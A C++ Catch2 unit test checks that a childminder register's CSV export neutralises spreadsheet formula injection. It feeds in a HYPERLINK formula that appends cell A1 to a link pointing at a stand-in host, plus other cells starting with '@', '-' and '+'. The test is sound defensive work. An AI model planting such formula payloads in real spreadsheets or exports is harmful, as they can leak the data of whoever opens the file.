#include "AppContext.h"
#include "ChildminderExporter.h"
#include "ChildminderRepository.h"
#include "FixedClock.h"
#include "QtStringMaker.h"
#include "TestDatabase.h"

#include <QFile>
#include <QTemporaryDir>
#include <catch2/catch.hpp>

using namespace parcours;

TEST_CASE("A register export neutralises a formula name and a +33 phone")
{
    const FixedClock clock(QDate(2026, 11, 29));
    auto ctx = AppContext::openOn(parcours::testing::openTestDatabase(), clock);
    // Stored as an import could store them: through the repository, without
    // the editor's normalisation.
    Childminder p;
    p.usageName = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"Cliquez\")");
    p.firstName = QStringLiteral("@SOMME(A1)");
    p.phone = QStringLiteral("+33 3 29 00 00 00");
    p.communeName = QStringLiteral("-Verdun");
    p.status = ChildminderStatus::Active;
    ctx->childminders().insert(p);

    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("am.csv"));
    REQUIRE(ChildminderExporter(*ctx).exportTo(path, ExportFormat::Csv) == 1);
    QFile csv(path);
    REQUIRE(csv.open(QIODevice::ReadOnly));
    const QStringList lines =
        QString::fromUtf8(csv.readAll().mid(3)).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    REQUIRE(lines.size() == 2);
    // No cell of the row may start with a formula character once unquoted.
    const QString row = lines[1];
    CHECK(row.startsWith(QStringLiteral("\"'=HYPERLINK(")));
    CHECK(row.contains(QStringLiteral(";'@SOMME(A1);")));
    CHECK(row.contains(QStringLiteral(";'-Verdun;")));
    CHECK(row.contains(QStringLiteral(";'+33 3 29 00 00 00;")));
    CHECK_FALSE(row.contains(QStringLiteral(";+33")));
    CHECK_FALSE(row.contains(QStringLiteral(";=")));
}
